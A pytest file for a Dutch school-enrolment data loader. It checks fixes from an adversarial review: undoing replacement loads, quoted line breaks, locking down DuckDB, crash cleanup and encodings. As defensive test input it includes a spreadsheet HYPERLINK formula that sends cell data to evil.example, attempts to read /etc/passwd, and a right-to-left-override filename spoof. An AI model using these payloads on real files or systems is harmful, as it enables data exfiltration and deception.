"""Defects 8 to 14 of issue 15 (an adversarial review), each kept fixed by a test that failed before the fix.

Hostile files are generated here; races are driven by threads or subprocesses.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from sto_metrics.loading import loader
from sto_metrics.loading.reference import open_database
from tests.loader_support import MBO_HEADER, MBO_ROWS, VO_HEADER, VO_ROWS, csv_text, stored_rows, table_checksums

REPO = Path(__file__).resolve().parent.parent


pytestmark = pytest.mark.usefixtures("pupil_key_secret")


def vo_export(rows: list[list[str]] = VO_ROWS, **kwargs) -> bytes:
    return csv_text(VO_HEADER, rows, **kwargs).encode("utf-8")


def with_profile(rows: list[list[str]], profile: str) -> list[list[str]]:
    """The rows with every pupil's profile set to one value: other figures, same pupils."""
    return [[*row[:6], profile, *row[7:]] for row in rows]


def in_year(rows: list[list[str]], year: str) -> list[list[str]]:
    return [[row[0], year, *row[2:]] for row in rows]


def replaced_by(con) -> list[tuple]:
    return con.execute("SELECT load_id, replaced_by FROM load_log ORDER BY 1").fetchall()


# ---------------------------------------------------------------- 8. removing a --replace load


def test_removing_a_replacement_restores_what_it_replaced(con):
    original = loader.load_bytes(con, "oktober.csv", vo_export())
    assert original.loaded
    before = table_checksums(con)
    rows_before = stored_rows(con)
    correction = loader.load_bytes(con, "correctie.csv", vo_export(with_profile(VO_ROWS[:10], "PIE")), replace=True)
    assert correction.loaded and correction.rows_loaded == 10
    assert replaced_by(con) == [(1, 2), (2, None)]

    loader.remove_load(con, correction.load_id)
    # The school year is back as the original file left it: its 12 rows, its scope, not 'vervangen door' anything.
    assert stored_rows(con) == rows_before
    assert replaced_by(con) == [(1, None)]
    loads = loader.list_loads(con)
    assert loads.schools.tolist() == ["31XA00"] and loads.first_year.tolist() == [2023]
    assert table_checksums(con) == before
    # The original is loaded, so loading it again is refused as such; the correction can be loaded again.
    assert "al geladen" in loader.load_bytes(con, "oktober.csv", vo_export()).messages[0]
    assert loader.load_bytes(con, "correctie.csv", vo_export(with_profile(VO_ROWS[:10], "PIE")), replace=True).loaded


def test_removing_a_partial_replacement_restores_only_its_school_year(con):
    two_years = VO_ROWS + in_year(VO_ROWS, "2022-2023")
    assert loader.load_bytes(con, "twee-jaren.csv", vo_export(two_years)).loaded
    rows_before = stored_rows(con)
    correction = loader.load_bytes(con, "correctie-2023.csv", vo_export(with_profile(VO_ROWS, "PIE")), replace=True)
    assert correction.loaded
    assert con.execute("SELECT school_year, count(*), min(load_id) FROM vo_enrolment GROUP BY 1 ORDER BY 1").fetchall() == [
        (2022, 12, 1), (2023, 12, 2)]
    loader.remove_load(con, correction.load_id)
    assert stored_rows(con) == rows_before
    assert con.execute("SELECT DISTINCT load_id FROM vo_enrolment").fetchall() == [(1,)]
    assert loader.list_loads(con).last_year.tolist() == [2023]
    assert replaced_by(con) == [(1, None)]


def test_a_chain_of_replacements_unwinds_in_any_order(con):
    assert loader.load_bytes(con, "a.csv", vo_export()).loaded
    rows_a = stored_rows(con)
    assert loader.load_bytes(con, "b.csv", vo_export(with_profile(VO_ROWS, "PIE")), replace=True).loaded
    assert loader.load_bytes(con, "c.csv", vo_export(with_profile(VO_ROWS, "BWI")), replace=True).loaded
    rows_c = stored_rows(con)
    assert replaced_by(con) == [(1, 2), (2, 3), (3, None)]
    # Removing the middle one: c still holds the year, a is now replaced by c.
    loader.remove_load(con, 2)
    assert stored_rows(con) == rows_c
    assert replaced_by(con) == [(1, 3), (3, None)]
    loader.remove_load(con, 3)
    assert stored_rows(con) == rows_a
    assert replaced_by(con) == [(1, None)]
    assert con.execute("SELECT count(*) FROM load_scope").fetchall() == [(1,)]


def test_removing_a_replaced_load_takes_its_kept_rows_with_it(con):
    assert loader.load_bytes(con, "a.csv", vo_export()).loaded
    assert loader.load_bytes(con, "b.csv", vo_export(with_profile(VO_ROWS, "PIE")), replace=True).loaded
    rows_b = stored_rows(con)
    loader.remove_load(con, 1)
    loader.remove_load(con, 2)  # nothing of a comes back: it was removed
    assert stored_rows(con) == []
    assert replaced_by(con) == []
    assert rows_b and loader.load_bytes(con, "a.csv", vo_export()).loaded


def test_removing_an_mbo_replacement_restores_the_mbo_rows(con):
    assert loader.load_bytes(con, "mbo.csv", csv_text(MBO_HEADER, MBO_ROWS).encode()).loaded
    rows_before = stored_rows(con, "mbo_enrolment")
    corrected = [[*row[:7], "Economie"] for row in MBO_ROWS]
    assert loader.load_bytes(con, "mbo-correctie.csv", csv_text(MBO_HEADER, corrected).encode(), replace=True).loaded
    assert stored_rows(con, "mbo_enrolment") != rows_before
    loader.remove_load(con, 2)
    assert stored_rows(con, "mbo_enrolment") == rows_before
    assert replaced_by(con) == [(1, None)]


def test_replacement_from_before_kept_rows_existed_says_what_to_do(con):
    assert loader.load_bytes(con, "oktober.csv", vo_export()).loaded
    assert loader.load_bytes(con, "correctie.csv", vo_export(with_profile(VO_ROWS, "PIE")), replace=True).loaded
    # As a database made by an earlier version: the replaced rows were deleted, nothing was kept.
    for table in ("replaced_vo_enrolment", "replaced_load_scope"):
        con.execute(f"DELETE FROM {table}")
    notes = loader.remove_load(con, 2)
    # The replaced load holds nothing any more: it goes too, so that its file can be loaded again.
    assert replaced_by(con) == []
    assert notes == ["Lading 1 ('oktober.csv') was door lading 2 vervangen; die gegevens zijn niet bewaard. "
                     "Laad 'oktober.csv' opnieuw om ze terug te krijgen."]
    assert loader.load_bytes(con, "oktober.csv", vo_export()).loaded


# ---------------------------------------------------------------- 9. quoted line breaks (RFC 4180)


def with_note(rows: list[list[str]], notes: dict[int, str]) -> str:
    """The export with an 'opmerking' column (not used by the loader); Excel quotes a cell with Alt+Enter line breaks."""
    return csv_text([*VO_HEADER, "opmerking"], [[*row, notes.get(i, "")] for i, row in enumerate(rows)])


def test_quoted_line_breaks_load_as_rfc_4180_says(con, tmp_path):
    text = with_note(VO_ROWS, {0: "eerste regel\nAlt+Enter", 4: "a\r\n\r\nb", 11: "einde\n"})
    assert text.count("\n") > len(VO_ROWS) + 3
    result = loader.load_bytes(con, "met-enters.csv", text.encode())
    assert result.loaded, result.messages
    assert result.rows_read == 12 and result.rows_loaded == 12
    assert "lege_regel" not in result.problems  # the empty line inside a quoted cell is no blank row
    plain = open_database(tmp_path / "plain.duckdb")
    try:
        assert loader.load_bytes(plain, "zonder.csv", vo_export()).loaded
        assert stored_rows(con) == stored_rows(plain)
    finally:
        plain.close()


def test_line_numbers_stay_right_after_quoted_line_breaks(con):
    rows = [list(row) for row in VO_ROWS]
    rows[5][5] = "9"  # leerjaar 9: fatal, on the sixth pupil's line
    text = "Export leerlingen\n" + with_note(rows, {1: "drie\nregels\nlang", 3: "twee\n\nmet lege"})
    refused = loader.load_bytes(con, "fout.csv", text.encode())
    assert not refused.loaded
    lines = text.split("\n")
    expected = next(i for i, line in enumerate(lines, start=1) if line.startswith(rows[5][0]))
    assert expected == 12
    assert f"op regel {expected}." in refused.messages[0]
    # A blank line between pupils is still counted, one inside a cell is not.
    ok = loader.load_bytes(con, "goed.csv", (with_note(VO_ROWS[:6], {1: "a\n\nb"}) + "\n" + csv_text(VO_HEADER, VO_ROWS[6:]).split("\n", 1)[1]).encode())
    assert ok.loaded and ok.problems.get("lege_regel") == 1


def test_a_broken_row_after_quoted_line_breaks_names_its_own_line(con):
    text = with_note(VO_ROWS[:4], {0: "x\ny", 2: "p\nq\nr"}) + '100077;2023-2024;31XA00;"x"y;VMBO-BB;3;BWI;M;;\n'
    refused = loader.load_bytes(con, "kapot.csv", text.encode())
    assert not refused.loaded
    assert "kapot.csv, rond regel 9:" in refused.messages[0]
    # the same without line breaks in cells: the line is counted from the top of the file, not twice past the header
    plain = "Titel\n" + csv_text([*VO_HEADER, "opmerking"], [[*row, ""] for row in VO_ROWS[:4]]) + '100077;2023-2024;31XA00;"x"y;VMBO-BB;3;BWI;M;;\n'
    assert "kapot2.csv, rond regel 7:" in loader.load_bytes(con, "kapot2.csv", plain.encode()).messages[0]


def test_a_quote_left_open_with_line_breaks_elsewhere_is_refused_at_its_line(con):
    text = with_note(VO_ROWS[:4], {1: "x\ny"}) + '100077;2023-2024;31XA00;x;VMBO-BB;3;BWI;M;;"niet gesloten\n' + \
        csv_text(VO_HEADER, VO_ROWS[4:]).split("\n", 1)[1]
    before = table_checksums(con)
    refused = loader.load_bytes(con, "open.csv", text.encode())
    assert not refused.loaded
    assert "open.csv, regel 7:" in refused.messages[0] and "aanhalingsteken" in refused.messages[0]
    assert table_checksums(con) == before


# ---------------------------------------------------------------- 11. ambition notes are saved formula-safe


def test_a_formula_typed_in_an_ambition_note_is_neutralised_on_save(tmp_path):
    import csv

    import pandas as pd

    from sto_metrics.metrics import ambitions

    base = {"metric": "inflow_vmbo", "scope": "regio", "split": "", "baseline_year": "2020-2021", "baseline_value": "",
            "target_year": "2027-2028", "target_value": "30"}
    notes = ['=HYPERLINK("https://evil.example/?d="&A1;"klik")', "+31 6 1234", "@SUM(A1:A9)", "-2+3", "\t=1+1",
             "Afspraak regio: +5% in 2028", "'=al veilig"]
    targets = [(metric, split) for metric in ("inflow_vmbo", "inflow_havo_vwo", "progression_vmbo") for split in ("", "geslacht=V", "geslacht=M")]
    frame = pd.DataFrame([{**base, "metric": metric, "split": split, "note": note} for (metric, split), note in zip(targets, notes, strict=False)],
                         columns=ambitions.FILE_COLUMNS)
    path = tmp_path / "ambities.csv"
    assert ambitions.save_targets(frame, set(), path) == []
    with open(path, encoding="utf-8", newline="") as stored:
        saved = [row["note"] for row in csv.DictReader(stored)]
    # What Excel opens: no cell starts like a formula, the text itself is kept after one apostrophe.
    assert saved == ["'" + notes[0], "'+31 6 1234", "'@SUM(A1:A9)", "'-2+3", "'=1+1", "Afspraak regio: +5% in 2028", "'=al veilig"]
    assert [a.note for a in ambitions.validate(ambitions.read_targets(path), set())[0]] == saved
    # Saving what was read back changes nothing (no second apostrophe).
    assert ambitions.save_targets(ambitions.read_targets(path), set(), path) == []
    with open(path, encoding="utf-8", newline="") as stored:
        assert [row["note"] for row in csv.DictReader(stored)] == saved


# ---------------------------------------------------------------- 12. DuckDB locked down


def _refused(connection, statement: str, params: list | None = None) -> bool:
    import duckdb

    try:
        connection.execute(statement, params)
    except (duckdb.PermissionException, duckdb.InvalidInputException):
        return True
    return False


def test_the_apps_duckdb_connections_cannot_reach_files_extensions_or_settings(con, tmp_path):
    from sto_metrics import db

    outside = tmp_path / "buiten.csv"
    outside.write_text("a;b\n1;2\n", encoding="utf-8")
    assert loader.load_bytes(con, "vo.csv", vo_export()).loaded  # loading (which reads a copy of the file) still works
    path = tmp_path / "regio.duckdb"
    readonly_path = tmp_path / "alleen-lezen.duckdb"
    open_database(readonly_path).close()
    readonly = db.connect(readonly_path, read_only=True)
    try:
        for connection in (con, con.cursor(), db.connect(), readonly):
            assert _refused(connection, "SELECT * FROM read_csv(?)", [str(outside)])
            assert _refused(connection, "SELECT * FROM read_csv(?)", [str(path)])
            assert _refused(connection, "SELECT * FROM read_text('/etc/passwd')")
            assert _refused(connection, "ATTACH ? AS other", [str(tmp_path / "ander.duckdb")])
            assert _refused(connection, "COPY (SELECT 1) TO ?", [str(tmp_path / "uit.csv")])
            assert _refused(connection, "INSTALL httpfs")
            assert _refused(connection, "SET enable_external_access = true")
            assert _refused(connection, "SET allowed_directories = ['/']")
            assert _refused(connection, "SET autoinstall_known_extensions = true")
            assert connection.execute("SELECT current_setting('autoload_known_extensions')").fetchall() == [(False,)]
    finally:
        readonly.close()
    assert not (tmp_path / "uit.csv").exists() and not (tmp_path / "ander.duckdb").exists()
    # A second connection to the same open file (the dashboard's, the demo check's) opens without a configuration clash.
    again = open_database(path)
    try:
        assert again.execute("SELECT count(*) FROM vo_enrolment").fetchall() == [(12,)]
    finally:
        again.close()


def test_the_dashboards_shared_connection_is_locked_down(tmp_path, monkeypatch):
    import app_support as app

    path = tmp_path / "dashboard.duckdb"
    open_database(path).close()
    app.close_connection()
    try:
        with app.cursor(str(path)) as cur:  # the dashboard's own read-only copy
            assert _refused(cur, "SELECT * FROM read_text('/etc/hostname')")
            assert _refused(cur, "SET enable_external_access = true")
        with app.writing(str(path)) as con:  # its short-lived writable connection to the database itself
            assert _refused(con, "SELECT * FROM read_text('/etc/hostname')")
            assert _refused(con, "SET enable_external_access = true")
    finally:
        app.close_connection()


# ---------------------------------------------------------------- 13. no plaintext copies after a crash; private files

KILLED_DURING_LOAD = """
import os, signal, sys
from sto_metrics.loading import loader
from sto_metrics.loading.reference import open_database

def crash(*_args, **_kwargs):
    os.kill(os.getpid(), signal.SIGKILL)  # kill -9 while DuckDB reads the decoded copy

loader._stage = crash
con = open_database(sys.argv[1])
loader.load_bytes(con, "vo.csv", open(sys.argv[2], "rb").read())
"""


def _python(tmp_path, *args: str, check: bool = True):
    import os
    import subprocess
    import sys

    env = {**os.environ, "TMPDIR": str(tmp_path / "tmp"), "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, *args], cwd=REPO, env=env, capture_output=True, text=True, timeout=120, check=check)


def test_a_decoded_copy_left_by_a_crash_is_removed_when_the_next_process_starts(tmp_path):
    (tmp_path / "tmp").mkdir()
    export = tmp_path / "vo.csv"
    export.write_bytes(vo_export())
    killed = _python(tmp_path, "-c", KILLED_DURING_LOAD, str(tmp_path / "regio.duckdb"), str(export), check=False)
    assert killed.returncode == -9
    left = [p for p in (tmp_path / "tmp").rglob("*") if p.is_file()]
    assert left and any(VO_ROWS[0][0] in p.read_text(encoding="utf-8") for p in left)  # a raw pupil number, as the crash left it
    # Any next process that opens a database (dashboard, command line) removes what a dead process left.
    _python(tmp_path, "-m", "sto_metrics", "load", str(export), "--db", str(tmp_path / "regio.duckdb"))
    assert [p for p in (tmp_path / "tmp").rglob("*") if p.is_file()] == []


def test_a_live_processs_folder_is_left_alone(tmp_path, monkeypatch):
    import os
    import subprocess
    import sys

    from sto_metrics import db

    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        live = tmp_path / "tmp" / f"{db.READ_FOLDER_PREFIX}{sleeper.pid}-abc"
        live.mkdir()
        (live / "bezig.csv").write_text("100001;2023-2024\n")
        _python(tmp_path, "-c", "from sto_metrics import db; db.read_folder()")
        assert (live / "bezig.csv").exists()
    finally:
        sleeper.kill()
        sleeper.wait()
    assert os.getpid() != sleeper.pid


def test_databases_and_the_ambitions_file_are_created_private(tmp_path):
    import os
    import stat

    import pandas as pd

    from sto_metrics.metrics import ambitions

    old = os.umask(0o022)  # a usual default: new files readable by everyone
    try:
        con = open_database(tmp_path / "nieuw.duckdb")
        assert loader.load_bytes(con, "vo.csv", vo_export()).loaded
        con.close()
        frame = pd.DataFrame([{"metric": "inflow_vmbo", "scope": "regio", "split": "", "baseline_year": "2020-2021", "baseline_value": "",
                               "target_year": "2027-2028", "target_value": "30", "note": ""}], columns=ambitions.FILE_COLUMNS)
        target = tmp_path / "ambities.csv"
        assert ambitions.save_targets(frame, set(), target) == []
        assert ambitions.save_targets(frame, set(), target) == []  # a second save makes the .bak
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "nieuw.duckdb").stat().st_mode) == 0o600
    for name in ("ambities.csv", "ambities.csv.bak"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) & 0o037 == 0, name  # at most 0640
    # The command line creates its database private too, whatever the umask it was started with.
    export = tmp_path / "vo.csv"
    export.write_bytes(vo_export())
    (tmp_path / "tmp").mkdir()
    _python(tmp_path, "-c", "import os, sys; os.umask(0o022); from sto_metrics.cli import main; sys.exit(main(sys.argv[1:]))",
            "load", str(export), "--db", str(tmp_path / "cli.duckdb"))
    assert stat.S_IMODE((tmp_path / "cli.duckdb").stat().st_mode) == 0o600


# ---------------------------------------------------------------- 10. wide files


def test_thousands_of_trailing_empty_columns_load_as_a_narrow_table(con, tmp_path, monkeypatch):
    from sto_metrics import db

    widths = []
    execute = db.execute

    def watching(connection, query_name, **params):
        if query_name == "stage_file":
            widths.append(len(params["columns"]))
        return execute(connection, query_name, **params)

    monkeypatch.setattr(db, "execute", watching)
    wide = csv_text(VO_HEADER + [""] * 3000, [row + [""] * 3000 for row in VO_ROWS]).encode()  # Excel's habit
    result = loader.load_bytes(con, "breed.csv", wide)
    assert result.loaded and result.rows_loaded == 12 and result.problems == {}
    assert widths == [len(VO_HEADER)]  # DuckDB reads the 9 columns of the table, not 3,009 (work grows with the width)
    plain = open_database(tmp_path / "smal.duckdb")
    try:
        assert loader.load_bytes(plain, "smal.csv", vo_export()).loaded
        assert stored_rows(con) == stored_rows(plain)
    finally:
        plain.close()
    # A row of only delimiters is still one blank row, counted as such, and the line numbers stay right.
    rows = [row + [""] * 3000 for row in VO_ROWS]
    rows[3] = [""] * (len(VO_HEADER) + 3000)
    rows[5][5] = "9"
    refused = loader.load_bytes(con, "breed-fout.csv", csv_text(VO_HEADER + [""] * 3000, rows).encode())
    assert "op regel 7." in refused.messages[0]


def test_a_stray_cell_right_of_the_table_is_named_by_line_and_column(con):
    from openpyxl.utils import get_column_letter

    rows = [row + [""] * 3000 for row in VO_ROWS]
    rows[2][700] = "x"  # one stray value, far right, under no header
    refused = loader.load_bytes(con, "verdwaald.csv", csv_text(VO_HEADER + [""] * 3000, rows).encode())
    assert not refused.loaded
    message = refused.messages[0]
    assert message.startswith("verdwaald.csv, regel 4: ") and "aanhalingsteken" not in message
    assert f"kolom 701 (in Excel {get_column_letter(701)})" in message and "kopregel heeft 9 kolommen" in message


def test_a_stray_cell_right_of_a_workbooks_table_is_named_by_cell(con):
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(VO_HEADER)
    for row in VO_ROWS:
        sheet.append(row)
    sheet.cell(row=5, column=700, value="opmerking")
    data = io.BytesIO()
    book.save(data)
    refused = loader.load_bytes(con, "verdwaald.xlsx", data.getvalue())
    assert not refused.loaded
    assert refused.messages[0].startswith("verdwaald.xlsx, regel 5: ") and "kolom 700 (in Excel ZX)" in refused.messages[0]
    assert "CSV" not in refused.messages[0]


# ---------------------------------------------------------------- 14. smaller things users see: encodings


def test_a_utf8_export_with_one_windows_1252_line_keeps_every_other_line_as_written(con):
    rows = [list(row) for row in VO_ROWS]
    rows[0][3] = "Vmbo 't Zaanhuis – locatie Één"  # UTF-8 in every line
    lines = csv_text(VO_HEADER, rows).split("\n")
    data = "\n".join(lines[:5]).encode("utf-8") + b"\n" + lines[5].replace("Zaanhuis", "Zaanhuis \u2018b\u2019").encode("cp1252") + b"\n" + \
        "\n".join(lines[6:]).encode("utf-8")
    text = loader.decode_export("gemengd.csv", data)
    assert "Vmbo 't Zaanhuis – locatie Één" in text  # not 'â€“' and 'Ã‰Ã©n'
    assert "Zaanhuis \u2018b\u2019" in text  # the one cp1252 line read as cp1252
    # a file wholly in Windows-1252 reads as before
    assert loader.decode_export("ansi.csv", "Één – €\n".encode("cp1252")) == "Één – €\n"


def test_utf16_without_a_byte_order_mark_is_read(con):
    text = csv_text(VO_HEADER, VO_ROWS)
    for encoding in ("utf-16-le", "utf-16-be"):
        assert loader.decode_export("unicode.txt", text.encode(encoding)) == text
    result = loader.load_bytes(con, "unicode.txt", text.replace(";", "\t").encode("utf-16-le"))
    assert result.loaded and result.rows_loaded == 12


def test_a_nul_byte_anywhere_refuses_the_file_with_its_line(con):
    rows = [list(row) for row in VO_ROWS] * 700  # well past the first 64 KB
    rows = [[str(200000 + i), *row[1:]] for i, row in enumerate(rows)]
    text = csv_text(VO_HEADER, rows)
    assert len(text) > 2 * 65536
    data = bytearray(text.encode("utf-8"))
    at = data.index(b"\n", 100_000) + 3
    data[at] = 0
    before = table_checksums(con)
    refused = loader.load_bytes(con, "nul.csv", bytes(data))
    assert not refused.loaded
    line = text[:at].count("\n") + 1
    assert f"nul.csv, regel {line}: " in refused.messages[0] and "NUL" in refused.messages[0]
    assert table_checksums(con) == before


# ---------------------------------------------------------------- 14. smaller things users see: headers and file names


def test_a_column_header_given_twice_refuses_the_file_naming_both_columns(con):
    header = [*VO_HEADER, "Leerjaar"]
    rows = [[*row, "1"] for row in VO_ROWS]  # which leerjaar is right? the loader cannot know
    before = table_checksums(con)
    refused = loader.load_bytes(con, "dubbel.csv", csv_text(header, rows).encode())
    assert not refused.loaded
    assert refused.messages[0] == ("dubbel.csv, regel 1: de kolom 'leerjaar' staat twee keer in de kopregel (kolom 6 en kolom 10). "
                                   "Laat er één staan en laad het bestand opnieuw.")
    assert table_checksums(con) == before
    # An unused column twice is no problem: nothing is read from it.
    extra = loader.load_bytes(con, "opmerking.csv", csv_text([*VO_HEADER, "opmerking", "opmerking"], [[*row, "a", "b"] for row in VO_ROWS]).encode())
    assert extra.loaded


def test_control_and_direction_characters_never_reach_a_stored_file_name(con):
    evil = "\u202eexcod.csv"  # shows as 'vsc.docxe': right-to-left override
    result = loader.load_bytes(con, evil + "\u200b\x07", vo_export())
    assert result.loaded and result.file_name == "excod.csv"
    assert loader.list_loads(con).file_name.tolist() == ["excod.csv"]
    refused = loader.load_bytes(con, "\u2066kopie\u2069.csv", vo_export())
    assert refused.file_name == "kopie.csv" and refused.messages[0].startswith("kopie.csv: dit bestand is al geladen (lading 1, 'excod.csv'")


def test_a_school_name_starting_with_a_tab_does_not_become_the_default_school(con):
    from sto_metrics.metrics import catalog

    other = [[str(300000 + i), row[1], "99ZZ00", "\t\u200bAaa \x0bSchool\u2028", *row[4:]] for i, row in enumerate(VO_ROWS)]
    assert loader.load_bytes(con, "twee.csv", vo_export(VO_ROWS + other)).loaded
    schools = catalog.schools(con)
    # Stored without control and format characters, so it sorts by its letters (Mijn school opens on the first).
    assert schools.name.tolist() == ["Aaa School", "Vmbo 't Zaanhuis"]
    assert con.execute("SELECT name FROM school WHERE school_id = '99ZZ00'").fetchall() == [("Aaa School",)]


def test_a_school_is_named_as_the_catalog_names_it_and_an_unknown_one_by_its_code(con):
    import app_support
    from sto_metrics.metrics import catalog

    other = [[str(300000 + i), row[1], "99ZZ00", "Aaa School", *row[4:]] for i, row in enumerate(VO_ROWS)]
    assert loader.load_bytes(con, "twee.csv", vo_export(VO_ROWS + other)).loaded
    ctx = app_support.Context(source=None, versions=None, filters=None, school_years=(), schools=catalog.schools(con))
    assert [ctx.school_name(s) for s in ("99ZZ00", VO_ROWS[0][2], "00XX00")] == ["Aaa School", "Vmbo 't Zaanhuis", "00XX00"]
